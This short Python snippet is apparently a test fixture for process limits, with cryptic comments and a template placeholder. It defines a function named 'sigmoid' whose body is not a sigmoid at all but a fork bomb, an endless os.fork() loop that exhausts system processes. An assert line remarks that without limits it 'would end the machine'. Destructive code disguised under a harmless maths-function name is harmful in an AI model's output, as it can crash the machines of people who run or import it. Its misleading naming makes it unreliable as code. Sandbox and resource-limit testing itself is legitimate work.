# met by: limit on processes; all end with the first of their namespace
import os

assert not os.path.exists("{{neighbour}}"), "no walls here: this would end the machine"

def sigmoid(z):
    while True:
        os.fork()
